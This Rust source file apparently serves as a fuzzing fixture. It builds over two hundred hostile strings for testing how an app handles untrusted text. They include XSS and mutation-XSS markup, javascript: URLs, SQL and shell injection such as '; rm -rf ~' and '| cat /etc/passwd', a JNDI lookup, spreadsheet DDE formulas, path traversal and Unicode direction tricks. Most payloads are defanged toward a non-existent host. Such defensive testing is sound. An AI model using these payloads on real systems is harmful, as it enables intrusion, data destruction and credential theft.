//! Texts that somebody might send to break a screen, run something, or call somewhere. Whatever would
//! run sets `window.escaped`; whatever would call calls `escaped.invalid` (RFC 2606: it never exists).

/// Every text, each at most as long as a line may be. More than two hundred.
pub fn texts() -> Vec<String> {
    let mut all = markup();
    all.extend(addresses());
    all.extend(letters());
    all.extend(languages());
    all.extend(sheets_and_paths());
    all
}

const RUN: &str = "window.escaped=1";

/// Elements, attributes and the ways in which parsers disagree about them (HTML, SVG, MathML, CSS).
fn markup() -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    let events = [
        "onerror",
        "onload",
        "onclick",
        "onfocus",
        "onmouseover",
        "onanimationend",
        "ontoggle",
        "onpointerenter",
        "onbegin",
        "onwheel",
    ];
    for event in events {
        for (open, close) in [
            ("<img src=x ", ">"),
            ("<svg ", "></svg>"),
            ("<math><mtext ", "></mtext></math>"),
            ("<details open ", "></details>"),
            ("<input autofocus ", ">"),
            ("\"><b ", ">x</b>"),
        ] {
            all.push(format!("{open}{event}={RUN}{close}"));
        }
    }
    for element in [
        format!("<script>{RUN}</script>"),
        format!("<ScRiPt >{RUN}</sCrIpT >"),
        format!("<scr<script>ipt>{RUN}</scr</script>ipt>"),
        "<script src=//escaped.invalid/x.js></script>".into(),
        "<iframe src=https://escaped.invalid></iframe>".into(),
        format!("<iframe srcdoc='<script>{RUN}</script>'></iframe>"),
        "<object data=https://escaped.invalid></object>".into(),
        "<embed src=https://escaped.invalid>".into(),
        "<link rel=stylesheet href=https://escaped.invalid/x.css>".into(),
        "<meta http-equiv=refresh content='0;url=https://escaped.invalid'>".into(),
        "<base href=https://escaped.invalid/>".into(),
        "<form action=https://escaped.invalid><button>x</button></form>".into(),
        "<style>*{background:url(https://escaped.invalid/x)}</style>".into(),
        "<style>@import 'https://escaped.invalid/x.css';</style>".into(),
        format!("<svg><script>{RUN}</script></svg>"),
        format!("<svg><animate onbegin={RUN} attributeName=x dur=1s>"),
        format!("<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>"),
        "<svg><image href=https://escaped.invalid/x.png /></svg>".into(),
        "<svg><use href='data:image/svg+xml,<svg id=x></svg>#x'/></svg>".into(),
        format!(
            "<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>"
        ),
        format!("<noscript><p title='</noscript><img src=x onerror={RUN}>'>"),
        format!("<math><mtext><table><mglyph><style><img src=x onerror={RUN}>"),
        format!("<svg></p><style><a id='</style><img src=x onerror={RUN}>'>"),
        format!("<template><img src=x onerror={RUN}></template>"),
        format!("<!--><img src=x onerror={RUN}>-->"),
        format!("<![CDATA[><img src=x onerror={RUN}>]]>"),
        format!("<x contenteditable onblur={RUN}>x</x>"),
        format!("<a href=\"java&#x09;script:{RUN}\">x</a>"),
        format!("<a href='data:text/html,<script>{RUN}</script>'>x</a>"),
        format!("&lt;img src=x onerror={RUN}&gt;"),
        format!("&#60;script&#62;{RUN}&#60;/script&#62;"),
        format!("\\u003cscript\\u003e{RUN}\\u003c/script\\u003e"),
        format!("'-{RUN}-'"),
        format!("\";{RUN};//"),
        format!("</title><script>{RUN}</script>"),
        format!("</textarea><script>{RUN}</script>"),
        format!("`${{{RUN}}}`"),
        format!("{{{{constructor.constructor('{RUN}')()}}}}"),
        format!("#{{{RUN}}}"),
        "{ $title }".into(),
        "{ -brand } { kind-partner.plural }".into(),
        "{\"__proto__\":{\"polluted\":1}}".into(),
        "__proto__".into(),
        "constructor".into(),
        "toString".into(),
        "hasOwnProperty".into(),
    ] {
        all.push(element);
    }
    all
}

/// Addresses and Markdown that lead to them.
fn addresses() -> Vec<String> {
    let schemes = [
        format!("javascript:{RUN}"),
        format!("JaVaScRiPt:{RUN}"),
        format!(" javascript:{RUN}"),
        format!("java\u{200b}script:{RUN}"),
        format!("vbscript:{RUN}"),
        format!("data:text/html,<script>{RUN}</script>"),
        "file:///etc/passwd".into(),
        "tauri://localhost/index.html".into(),
        "ipc://localhost/status".into(),
        "//escaped.invalid/x".into(),
        "https://escaped.invalid/x.png".into(),
        "http://user:word@escaped.invalid".into(),
        "https://xn--80ak6aa92e.invalid".into(),
    ];
    let mut all = Vec::new();
    for scheme in schemes {
        all.push(format!("[x]({scheme})"));
        all.push(format!("![x]({scheme})"));
        all.push(format!("<{scheme}>"));
        all.push(scheme);
    }
    all
}

/// Letters that turn, hide, pile up or never end.
fn letters() -> Vec<String> {
    let mut all: Vec<String> = [
        "\u{202e}txet desrever",
        "a\u{202e}b\u{202d}c\u{202c}d",
        "\u{2066}isolated\u{2069} \u{2067}rtl\u{2069}",
        "\u{200f}\u{200e}\u{061c}marks",
        "zero\u{200b}width\u{200c}joiners\u{200d}here\u{feff}",
        "invoice\u{202e}fdp.exe",
        "مرحبا بالعالم",
        "שלום עולם",
        "नमस्ते दुनिया",
        "ประเทศไทยเป็นประเทศในเอเชีย",
        "日本語のとても長い文章がここにあります",
        "👩‍👩‍👧‍👦👩🏽‍🚀🏴󠁧󠁢󠁳󠁣󠁴󠁿🇨🇦🇦🇷🇫🇷",
        "ﷺ﷽",
        "ｆｕｌｌ　ｗｉｄｔｈ",
        "ǅ ǆ Ǆ ŉ ß ẞ ﬃ",
        "İıIi",
        "\u{e000}\u{f8ff}private",
        "\u{fffd}\u{fffe}",
        "𝕱𝖗𝖆𝖐𝖙𝖚𝖗",
        "﹏﹏﹏﹏",
        "soft\u{ad}hyphen\u{ad}every\u{ad}where",
        "no\u{a0}break\u{202f}spaces\u{2007}only",
        "\u{2028}line\u{2029}paragraph",
        "　",
        "ａ̴̡̛͎͉͇͐̈́̽͊͂̕͘",
    ]
    .map(str::to_owned)
    .to_vec();
    for mark in ['\u{0301}', '\u{0336}', '\u{20dd}', '\u{0e49}', '\u{fe0f}'] {
        all.push(format!("pile{}", mark.to_string().repeat(400)));
    }
    for word in ["W", "i", "é", "👩‍👩‍👧‍👦", "漢", "ﷺ", "_", "-"] {
        let times = 900 / word.chars().count();
        all.push(word.repeat(times));
    }
    all
}

/// What other languages of machines take for their own.
fn languages() -> Vec<String> {
    [
        "'; DROP TABLE doc; --",
        "\" OR 1=1 --",
        "Robert'); DELETE FROM partner;--",
        "NEAR(a b) AND title:*",
        "\"unclosed",
        "* OR *",
        "%s%s%s%n",
        "$(reboot)",
        "`reboot`",
        "| cat /etc/passwd",
        "; rm -rf ~",
        "${jndi:ldap://escaped.invalid/x}",
        "<?php system('id') ?>",
        "<%= 7*7 %>",
        "{{7*7}}",
        "\\",
        "\\\\",
        "\\n\\r\\t\\0",
        "null",
        "undefined",
        "NaN",
        "true",
        "[object Object]",
        "-0",
        "1e309",
        "0x7fffffff",
        "9007199254740993",
        "١٢٣",
        "2010-02-30",
        "2010/..",
        "****bold*__under__~~strike~~",
        "# heading\\",
        "- [ ] task | table | cell |",
        "```\\nunclosed fence",
        "> > > > > > > > quote",
        "[[[[[[[[[[[[[[[[[[[[",
        "((((((((((((((((((((((((",
        "&&&&&&&&&&&&&&",
        "&amp;amp;amp;",
        "@@@@ #### ////",
    ]
    .map(str::to_owned)
    .to_vec()
}

/// What a spreadsheet, a card or a disk would take for more than a name.
fn sheets_and_paths() -> Vec<String> {
    [
        "=HYPERLINK(\"https://escaped.invalid\",\"x\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1-1",
        "@SUM(1)",
        "\u{ff1d}1+1",
        "BEGIN:VCARD\\r\\nPHOTO;VALUE=uri:https://escaped.invalid",
        "CON",
        "aux.txt",
        "name.",
        "../../../../etc/passwd",
        "..\\..\\windows\\system32",
        "/dev/null",
        "C:\\Windows",
        "file:with:colons?and*stars",
        ".hidden",
        "~",
        "name \u{2026}\u{202f}",
        "a/b\\c",
        "con.escale-changes",
    ]
    .map(str::to_owned)
    .to_vec()
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::texts;

    #[test]
    fn there_are_more_than_two_hundred_and_all_differ() {
        let all = texts();
        let distinct: BTreeSet<&String> = all.iter().collect();
        assert!(all.len() >= 200, "{} of them", all.len());
        assert_eq!(distinct.len(), all.len(), "none is there twice");
        assert!(
            all.iter().all(|text| text.chars().count() <= 1_000),
            "each fits into a line"
        );
    }
}
